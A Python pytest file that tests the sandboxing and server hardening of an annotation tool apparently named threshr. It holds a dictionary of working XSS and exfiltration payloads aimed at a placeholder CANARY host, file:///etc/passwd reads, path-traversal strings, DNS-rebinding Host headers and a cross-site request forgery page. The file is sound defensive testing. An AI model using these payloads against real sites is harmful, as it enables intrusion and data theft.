"""Tests that a hostile page in the frame cannot reach other servers or the application, and that no other site can reach the
application.

Each attack runs twice: with the page as threshr writes it into the frame, and with the original page, which only the headers
and the sandbox restrict.
"""

import http.client
import json

import pytest
from application import click_block, open_at, records, until

# CANARY and APP are placeholders for the addresses of the canary and of the application.
ATTACKS = {
    "script": "<script>fetch('CANARY/x');parent.pwned=1;top.document.title='pwned'</script>",
    "script element from elsewhere": "<script src=CANARY/x.js></script>",
    "image error": "<img src=CANARY/x.png onerror=\"parent.pwned=1\"><img src=x onerror=\"parent.pwned=1\">",
    "load handler": "<body onload=\"parent.pwned=1\"><p onclick=\"parent.pwned=1\" onmouseover=\"parent.pwned=1\">t</p>",
    "meta refresh": "<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">",
    "meta refresh to script": "<meta http-equiv=refresh content=\"0;url=javascript:parent.pwned=1\">",
    "base": "<base href=CANARY/ target=_top><img src=x.png><a href=y>t</a>",
    "form": "<form action=CANARY/form method=post><input name=a value=b><button>Send</button></form>",
    "form to the application": "<form action=/api/pages/0 method=post enctype=text/plain><input name='{\"base\":0,\"a\":\"' value='\"}'><button>Send</button></form>",
    "form attribute": "<form id=f></form><button form=f formaction=CANARY/f formtarget=_top>Send</button>",
    "link in the top window": "<a href=CANARY/top target=_top>top</a>",
    "link in the parent": "<a href=CANARY/parent target=_parent>parent</a>",
    "link in a new window": "<a href=CANARY/new target=_blank rel=opener>new</a>",
    "link": "<a href=CANARY/link ping=CANARY/ping>link</a>",
    "script address": "<a href=\"javascript:parent.pwned=1\">run</a>",
    "data address": "<a href=\"data:text/html,<script>top.pwned=1</script>\" target=_top>run</a>",
    "link to the application": "<a href=/api/pages>api</a><img src=/api/session><iframe src=/api/session></iframe>",
    "svg script": "<svg xmlns=http://www.w3.org/2000/svg onload=parent.pwned=1><script>parent.pwned=1;fetch('CANARY/svg')</script><image href=CANARY/svg.png /><use href=CANARY/u.svg#a /></svg>",
    "svg style": "<svg><style>&lt;/style>&lt;img src=x onerror=parent.pwned=1></style></svg>",
    "mathml": "<math><annotation-xml encoding=text/html><img src=CANARY/m.png onerror=parent.pwned=1></annotation-xml></math><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;\"></table></math>",
    "styles": "<style>@import 'CANARY/i.css';body{background:url(CANARY/b.png)}@font-face{font-family:x;src:url(CANARY/f.woff)}p{font-family:x;list-style:url(CANARY/l.png);cursor:url(CANARY/c.cur),auto;content:url(CANARY/d.png)}</style>",
    "style attribute": "<p style=\"background-image:url(CANARY/a.png)\">t</p><table background=CANARY/t.png><td>t</table>",
    "style sheet": "<link rel=stylesheet href=CANARY/s.css><link rel=preload as=image href=CANARY/p.png><link rel=prefetch href=CANARY/pf><link rel=dns-prefetch href=CANARY><link rel=preconnect href=CANARY><link rel=manifest href=CANARY/man><link rel=icon href=CANARY/icon>",
    "iframe": "<iframe src=CANARY/frame></iframe><iframe srcdoc=\"<script>top.pwned=1</script><img src=CANARY/doc.png>\"></iframe><iframe src=\"javascript:parent.parent.pwned=1\"></iframe>",
    "object": "<object data=CANARY/o></object><embed src=CANARY/e><applet code=CANARY/a></applet><object data=\"data:text/html,<script>parent.pwned=1</script>\"></object>",
    "media": "<video src=CANARY/v autoplay poster=CANARY/p.png></video><audio src=CANARY/a autoplay></audio><picture><source srcset=CANARY/s.png><img src=CANARY/i.png></picture><track src=CANARY/t>",
    "files": "<img src=file:///etc/passwd><iframe src=file:///etc/passwd></iframe><a href=file:///etc/passwd>t</a>",
    "template": "<template shadowrootmode=open><img src=CANARY/t.png><script>parent.pwned=1</script></template>",
    "xml": "<?xml-stylesheet href=CANARY/x.xsl?><xml><img src=CANARY/x.png></xml>",
    "marks": "<t-b data-b=0 onclick=parent.pwned=1 style=\"background:url(CANARY/m.png)\">a</t-b><t-r style=\"background:url(CANARY/r.png)\">b</t-r>",
    "names of the window": "<form name=defaultView></form><img name=body><form id=documentElement><input name=scrollTo></form><a id=defaultView name=URL>t</a>",
    "speculation": "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"CANARY/pre\"]}]}</script>",
    "portal and fenced frame": "<portal src=CANARY/p></portal><fencedframe src=CANARY/f></fencedframe>",
    "popover": "<button popovertarget=p>t</button><div popover id=p><img src=CANARY/pop.png></div><details open ontoggle=parent.pwned=1><summary>s</summary></details>",
}

TEXT = "<p>A paragraph of the page, which is long enough to be one of its blocks, says what it says.</p>"


def hostile(attack, canary, application_origin):
    return (TEXT + ATTACKS[attack]).replace("CANARY", canary.address).replace("APP", application_origin) + TEXT


@pytest.mark.parametrize("way", ["written", "raw"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_page_can_do_nothing(start, page, canary, tmp_path, attack, way):
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "0.html").write_text("<!DOCTYPE html>" + hostile(attack, canary, ""))
    application = start("annotate", folder, "--annotator", "ada")
    html = hostile(attack, canary, application.origin)
    popups, dialogs = [], []
    page.context.on("page", lambda popup: popups.append(popup))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    if way == "raw":
        def replace(route):
            response = route.fetch()
            route.fulfill(response=response, body=f"<!DOCTYPE html><p><t-b data-b=0>block</t-b></p>{html}")

        page.route("**/frame/**", replace)
    open_at(page, application)
    title = page.title()
    # a user clicks many places, then a script clicks all elements of the page itself
    page.mouse.move(600, 300)
    for y in range(120, 420, 40):
        page.mouse.click(500, y)
    page.evaluate(
        """() => {
          const doc = document.querySelector("iframe").contentDocument;
          for (const node of doc?.querySelectorAll("a, button, summary, input, area, t-b") ?? []) node.click?.();
          for (const form of doc?.querySelectorAll("form") ?? []) {
            try { HTMLFormElement.prototype.requestSubmit.call(form); } catch { }
          }
        }"""
    )
    page.wait_for_timeout(600)
    assert canary.hits == []
    if way == "written":
        # content security policies do not forbid hints such as preconnect
        assert canary.connections == []
    assert page.evaluate("window.pwned") is None
    assert popups == [] and dialogs == []
    assert page.url.startswith(application.origin + "/") and page.title() == title
    assert records(folder) == {}
    text = page.evaluate("document.querySelector('iframe').contentDocument?.body?.innerText ?? ''")
    assert "num_pages" not in text and "root:" not in text


def test_the_canary_hears_what_the_policy_forbids(start, page, canary, tmp_path):
    """Without the policy of the frame, the same page reaches the canary. This shows that the other tests can fail."""
    (tmp_path / "0.html").write_text(TEXT)
    application = start("inspect", tmp_path / "0.html")
    html = hostile("image error", canary, "")

    def replace(route):
        response = route.fetch()
        headers = {name: value for name, value in response.headers.items() if name != "content-security-policy"}
        route.fulfill(response=response, headers=headers, body=html)

    page.route("**/frame/**", replace)
    open_at(page, application)
    page.wait_for_timeout(600)
    assert canary.hits == ["GET /x.png"]


def request(application, path, method="GET", headers=None, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", application.port, timeout=10)
    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    given = {"Host": f"127.0.0.1:{application.port}", **(headers or {})}
    if body is not None:
        given["Content-Length"] = str(len(body))
    for name, value in given.items():
        connection.putheader(name, value)
    connection.endheaders(body)
    response = connection.getresponse()
    return response.status, response.read().decode(), response.headers


@pytest.fixture
def application(start, tmp_path):
    folder = tmp_path / "pages"
    folder.mkdir()
    (folder / "0.html").write_text(TEXT)
    (tmp_path / "secret.html").write_text("<p>a secret of another folder")
    running = start("annotate", folder, "--annotator", "ada")
    running.folder = folder
    return running


def test_a_rebound_name_is_refused(application):
    token = {"X-Threshr-Token": application.token}
    assert request(application, "/api/session", headers=token)[0] == 200
    for host in ["evil.example", f"evil.example:{application.port}", "127.0.0.1", "localhost:1", ""]:
        for path in ["/", "/api/session", "/assets/app.js"]:
            status, text, _ = request(application, path, headers={**token, "Host": host})
            assert status == 421 and "folder" not in text, (host, path)


def test_paths_lead_to_nothing_else(application):
    token = {"X-Threshr-Token": application.token}
    _, text, _ = request(application, "/api/pages/0", headers=token)
    frame = json.loads(text)["sides"][0]["frame"]
    key = frame.split("/")[2]
    assert request(application, frame)[0] == 200
    paths = [
        "/assets/../Cargo.toml", "/assets/..%2f..%2fCargo.toml", "/assets/%2e%2e/secret.html", "/assets//etc/passwd",
        f"/frame/{key}/..%2fsecret.html/0", f"/frame/{key}/1/0", f"/frame/{key}/0/1", f"/frame/{key}/-1/0",
        f"/frame/{key}x/0/0", "/frame//0/0", f"/frame/{application.token}/0/0", "/api/pages/../../secret.html",
        "/api/pages/99999999999999999999999", "/api/pages/1", "/secret.html", "/0.html", "/annotations.jsonl",
        "//etc/passwd", "/..%00/", "/%ff",
    ]
    for path in paths:
        status, text, _ = request(application, path, headers=token)
        assert 400 <= status < 500, (path, status)
        assert "secret of another" not in text and "root:" not in text, path


def test_answers_have_their_headers(application):
    for path in ["/", "/assets/app.js", "/api/session", "/nothing"]:
        _, _, headers = request(application, path)
        policy = headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "frame-ancestors 'none'" in policy
        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "no-referrer"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin" and headers["Cache-Control"] == "no-store"
        assert headers["Set-Cookie"] is None and headers["Access-Control-Allow-Origin"] is None
    assert request(application, "/api/session")[0] == 401


def test_bodies_are_bounded(application):
    headers = {"X-Threshr-Token": application.token, "Content-Type": "application/json"}
    status, _, _ = request(application, "/api/pages/0", "POST", headers, b"[" * (3 << 20))
    assert status == 413
    for body in [b"", b"[]", b"{", b'{"base":0,"state":"done","labels":[],"by":[]}', b"[" * 100_000]:
        assert request(application, "/api/pages/0", "POST", headers, body)[0] in (400, 422)
    assert records(application.folder) == {}


def test_another_site_changes_nothing(application, page, canary):
    body = json.dumps({"base": 0, "state": "done", "labels": ["teaser", "teaser"], "by": ["person", "person"]})
    canary.bodies["/attack"] = f"""<title>attack</title><script>
      const url = "{application.origin}/api/pages/0", body = {json.dumps(body)};
      const ways = [
        () => fetch(url, {{ method: "POST", mode: "no-cors", body, credentials: "include" }}),
        () => fetch(url, {{ method: "POST", headers: {{ "Content-Type": "application/json" }}, body }}),
        () => fetch("{application.origin}/api/session"),
        () => Promise.resolve(navigator.sendBeacon(url, new Blob([body], {{ type: "text/plain" }}))),
      ];
      window.read = [];
      Promise.allSettled(ways.map(async (way) => {{ const r = await way(); window.read.push(r.text ? await r.text() : ""); }}))
        .then(() => (document.title = "tried"));
    </script><iframe name=f src="{application.origin}/"></iframe>
    <form method=post enctype=text/plain target=f action="{application.origin}/api/pages/0"><input name='{{"x":"' value='"}}'></form>
    <script>document.forms[0].submit()</script>"""
    page.goto(f"{canary.address}/attack")
    until(page, "document.title === 'tried'")
    page.wait_for_timeout(500)
    assert "".join(page.evaluate("window.read")) == ""
    assert records(application.folder) == {}
    # other sites cannot show the application in a frame
    framed = next(frame for frame in page.frames if frame.name == "f")
    assert framed.locator("#top").count() == 0


def test_nothing_is_shown_without_the_token(application, page):
    page.goto(application.origin + "/")
    page.wait_for_selector("#banner:not([hidden])")
    assert "address that threshr printed" in page.text_content("#banner")
    assert page.locator("#block-list li").count() == 0
    page.goto(application.origin + "/#wrong")
    page.reload()
    page.wait_for_selector("#banner:not([hidden])")


def test_the_token_leaves_the_address(application, page):
    open_at(page, application)
    assert application.token not in page.url
    page.reload()
    page.wait_for_selector("body[data-ready]")
    click_block(page, 0)
    assert page.locator("#block-list [aria-selected=true]").count() == 1
